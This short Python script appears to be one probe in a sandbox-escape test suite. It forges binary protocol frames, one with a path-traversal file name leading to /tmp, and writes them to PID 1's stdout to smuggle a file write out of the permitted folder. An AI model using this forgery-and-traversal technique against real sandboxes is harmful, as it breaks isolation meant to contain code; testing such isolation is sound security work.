# A01, R53: as forged_files.py, and the second of them leads out of the folder that the files go to.
import os
import struct

from attempts import attempt, done


def frame(kind, body):
    return struct.pack(">BBHI", kind, 0, 1, len(body)) + body


FORGED = b"".join(
    frame(0x47, struct.pack(">QB", 4, 0) + path) + frame(0x48, b"evil")
    for path in (b"forged/file", b"../../../../../../tmp/escaped-from-sandbox-runner")
)

attempt("descriptor 1", lambda: os.write(os.open("/proc/1/fd/1", os.O_WRONLY), FORGED))
done()
